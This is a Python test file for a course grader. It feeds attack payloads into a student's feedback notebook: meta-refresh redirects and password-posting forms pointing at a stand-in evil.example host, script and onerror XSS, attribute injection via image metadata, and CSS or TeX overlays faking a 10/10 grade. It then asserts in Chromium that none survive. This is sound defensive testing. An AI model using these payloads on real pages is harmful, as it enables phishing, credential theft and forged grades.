"""A student attacks their own feedback page (issue #22): every payload, opened in Chromium.

Each page is made by the grader's own path (``notebooks.prepare`` -> ``feedback.feedback_notebook`` ->
``feedback.write_feedback_html``) from a ch03 submission that scored 0 / 10, whose markdown
cells and outputs carry one attack each (outputs are what comes back from the sandbox, which
the submission controls). Opened as a file (as a student opens it), in Chromium:

- no navigation (a ``<meta http-equiv=refresh>`` fires after 1 s: the page is watched for 3 s);
- no ``<form>``, ``<base>`` or refresh ``<meta>`` in the document;
- no request off the page (every request that is not ``file:`` or ``data:`` is counted, and aborted);
- the real grade, "Score: 0 / 10", is shown, once, and is what ``document.elementFromPoint``
  finds at the centre of its box: at the top, scrolled to the middle and to the end, at
  1280 and at 390 px wide; no element of the student's part of the page is ``position: fixed``;
- ``verify_feedback_page`` accepts the page against its rows and refuses an edited one.

Payloads: a refresh ``<meta>`` (markdown and text/html), a form posting a password to an
outside address, a mermaid output carrying script and markup, image/png whose width injects
an attribute or a style, a full-screen CSS overlay with a fake "10 / 10" (and a ``<style>``
hiding the real one), a full-screen image, markdown using the page's own classes for a
lookalike score box, TeX that styles itself (``\\style``, ``\\class``, ``\\href``), a ``<base>``,
remote images and a stylesheet ``@import``.
"""

from __future__ import annotations

import copy
import sys
from pathlib import Path

import nbformat
import pytest

from course_lib.grading.feedback import feedback_notebook, verify_feedback_page, write_feedback_html
from course_lib.grading.gradebook import Row
from course_lib.grading.notebooks import load_source, prepare

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "fixtures"))
import ch03_submissions as ch03  # noqa: E402

EVIL = "https://evil.example"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:white;z-index:2147483647">'
           '<h1 class="course-score">Score: <strong>10 / 10</strong></h1></div>')
LOOKALIKE = ('<header class="course-header"><p class="course-score">Score: <strong>10 / 10</strong></p></header>'
             '<div class="course-feedback-summary course-score"><p class="course-score">Score: <strong>10 / 10</strong></p></div>')

#: one student per attack: (markdown cells the student adds, outputs that come back on their answer cell)
ATTACKS = {
    "meta_refresh": ([f'<meta http-equiv="refresh" content="1;url={EVIL}/phish">'],
                     [{"text/html": f'<meta http-equiv="refresh" content="1;url={EVIL}/phish2"><p>hi</p>'}]),
    "form": ([f'<form action="{EVIL}/steal" method="post"><input name="password" type="password"><button>Log in again</button></form>'],
             [{"text/html": f'<form action="{EVIL}/steal2"><input name="password"><input type="submit"></form>'}]),
    "mermaid": ([], [{"text/vnd.mermaid": f'graph TD; A-->B</pre><script>alert(1)</script><img src=x onerror=alert(2)>'
                                          f'<meta http-equiv="refresh" content="1;url={EVIL}/m"><form action="{EVIL}/m"><input></form>'}]),
    "png_width": ([], [({"image/png": PNG}, {"image/png": {"width": "100 onerror=alert(1) style=position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647",
                                                          "height": "100\" style=\"position:fixed;top:0;left:0"}})]),
    "css_overlay": ([OVERLAY, "<style>.course-score, .course-header { display: none !important }</style>"],
                    [{"text/html": OVERLAY + "<style>header { visibility: hidden }</style>"}]),
    "fullscreen_image": ([f'<img src="data:image/png;base64,{PNG}" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647" width="5000" height="5000">'],
                         [({"image/png": PNG}, {"image/png": {"width": 4000, "height": 4000}})]),
    "lookalike": ([LOOKALIKE, "<div class=\"course-grade course-grade-passed\"><p class=\"course-grade-title\">Score: 10 / 10</p></div>"],
                  [{"text/markdown": LOOKALIKE}]),
    "tex": ([r"$\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:white;z-index:2147483647}{\text{Score: 10 / 10}}$ "
             r"$\class{course-score}{\text{Score: 10 / 10}}$ $\href{https://evil.example/t}{\text{click}}$ $\bbox[position:fixed;top:0]{x}$"],
            [{"text/latex": r"$\href{https://evil.example/t2}{x}$"}]),
    "remote": ([f'<base href="{EVIL}/"><img src="{EVIL}/track.png"><link rel="stylesheet" href="{EVIL}/x.css">'
                f'<style>@import url({EVIL}/y.css); body {{ background: url({EVIL}/z.png) }}</style>',
                f"![tracker]({EVIL}/pixel.png)"],
               [{"text/html": f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/o"></object><img src="{EVIL}/t2.png">'},
                {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}/svg.png" width="10" height="10"/></svg>'}]),
}


def _page(folder: Path, student: str) -> tuple[Path, list[Row]]:
    """The feedback page of ``student``'s 0 / 10 submission carrying its attack."""
    markdown, outputs = ATTACKS[student]
    source = load_source(ch03.ASSIGNMENT, ch03.NAME)
    submission = ch03.answered(ch03.WRONG)
    at = next(i for i, c in enumerate(submission.cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == ch03.SA)
    for k, text in enumerate(markdown):
        submission.cells.insert(at + k, nbformat.v4.new_markdown_cell(text))
    prepared = prepare(source, submission)
    executed = copy.deepcopy(prepared.run_nb)
    answer = next(c for c in executed.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == ch03.SA)
    answer.execution_count = 1
    for out in outputs:
        data, metadata = out if isinstance(out, tuple) else (out, {})
        answer.outputs.append(nbformat.v4.new_output("display_data", data=data, metadata=metadata))
    rows = [Row(student, ch03.ASSIGNMENT, ch03.NAME, g.grade_id, "failed", 0.0, g.points, "the values are wrong")
            for g in source.graded]
    path = folder / "feedback" / student / ch03.ASSIGNMENT / f"{ch03.NAME}.html"
    write_feedback_html(feedback_notebook(executed, source, prepared, rows), path)
    return path, rows


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    folder = tmp_path_factory.mktemp("forged")
    return {student: _page(folder, student) for student in ATTACKS}


def _open(context, path: Path, width: int):
    page = context.new_page()
    page.set_viewport_size({"width": width, "height": 800})
    off_page: list[str] = []
    navigations: list[str] = []

    def route(r):
        url = r.request.url
        if url.startswith(("file:", "data:")):
            r.continue_()
        else:
            off_page.append(url)
            r.abort()

    page.route("**/*", route)
    page.on("framenavigated", lambda frame: navigations.append(frame.url))
    page.goto(path.as_uri())
    try:
        page.wait_for_function("document.querySelectorAll('mjx-container').length > 0", timeout=10_000)
    except Exception:  # noqa: BLE001 - a page without maths: nothing to wait for
        pass
    page.wait_for_timeout(3000)  # a refresh <meta> fires after 1 s
    return page, off_page, navigations


_TOPMOST = """() => {
  const score = document.querySelectorAll('.course-score');
  if (score.length !== 1) return 'found ' + score.length + ' score boxes';
  const r = score[0].getBoundingClientRect();
  if (r.width === 0 || r.height === 0) return 'the score box is not visible';
  const x = r.left + r.width / 2, y = r.top + r.height / 2;
  const hit = document.elementFromPoint(x, y);
  if (!(hit === score[0] || score[0].contains(hit))) return 'on top of the score: ' + (hit ? hit.outerHTML.slice(0, 200) : 'nothing');
  const style = getComputedStyle(score[0]);
  if (style.visibility !== 'visible' || style.display === 'none' || Number(style.opacity) < 1) return 'the score box is hidden';
  return 'ok ' + score[0].innerText;
}"""


@pytest.mark.slow
@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("student", list(ATTACKS))
def test_forged_page_neither_redirects_nor_posts_and_shows_the_real_grade_on_top(pages, browser_context, student, width):
    path, _ = pages[student]
    page, off_page, navigations = _open(browser_context, path, width)
    try:
        assert page.url == path.as_uri() and navigations == [path.as_uri()], f"the page navigated: {navigations}"
        assert not off_page, f"requests off the page: {off_page}"
        found = page.evaluate("""() => ({
            forms: document.querySelectorAll('form').length,
            bases: document.querySelectorAll('base').length,
            refresh: document.querySelectorAll('meta[http-equiv]:not([http-equiv="Content-Security-Policy"])').length,
            frames: document.querySelectorAll('iframe, object, embed').length,
            inputs: document.querySelectorAll('input, button, textarea').length,
            fixed: [...document.querySelectorAll('.course-student *')].filter(e => ['fixed', 'sticky'].includes(getComputedStyle(e).position)).length,
            headers: document.querySelectorAll('header').length,
        })""")
        assert found == {"forms": 0, "bases": 0, "refresh": 0, "frames": 0, "inputs": 0, "fixed": 0, "headers": 1}, found
        for where in ("0", "document.body.scrollHeight / 2", "document.body.scrollHeight"):
            page.evaluate(f"window.scrollTo(0, {where})")
            page.wait_for_timeout(100)
            verdict = page.evaluate(_TOPMOST)
            assert verdict == "ok Score: 0 / 10", f"scrolled to {where}: {verdict}"
        if width == 390:
            assert page.evaluate("document.documentElement.scrollWidth") <= 390
    finally:
        page.close()


def test_a_forged_page_keeps_its_digest_and_an_edited_one_fails_it(pages, tmp_path):
    for student, (path, rows) in pages.items():
        assert verify_feedback_page(path, rows) == (True, "shown: 'Score: 0 / 10', gradebook: 'Score: 0 / 10'"), student
    path, rows = pages["lookalike"]
    edited = tmp_path / "edited.html"
    edited.write_text(path.read_text(encoding="utf-8").replace("Score: <strong>0 / 10</strong>", "Score: <strong>10 / 10</strong>"))
    assert verify_feedback_page(edited, rows)[0] is False
    better = [Row(r.student, r.assignment, r.notebook, r.grade_id, "passed", r.max_points, r.max_points) for r in rows]
    assert verify_feedback_page(path, better)[0] is False  # the gradebook says otherwise: the page is not its grade


def test_forged_page_source_keeps_none_of_the_payloads(pages):
    """No payload survives as markup (as escaped text, which the student wrote, it may)."""
    import re

    for student, (path, _) in pages.items():
        text = path.read_text(encoding="utf-8")
        body = text[text.index("<body"):]
        for tag in ("form", "meta", "base", "script", "iframe", "object", "style", "link", "input"):
            assert not re.search(rf"<{tag}\b", body, re.IGNORECASE), (student, tag)
        tags = re.findall(r"<[a-z][^>]*>", body, re.IGNORECASE)
        for attribute in (r"\sonerror", r"\sstyle=\S*position", r"evil\.example"):
            assert not [t for t in tags if re.search(attribute, t)], (student, attribute)
        classes = " ".join(re.findall(r'class="([^"]*)"', body)).split()
        assert (classes.count("course-score"), classes.count("course-header"), classes.count("course-grade")) == (1, 1, 4), student
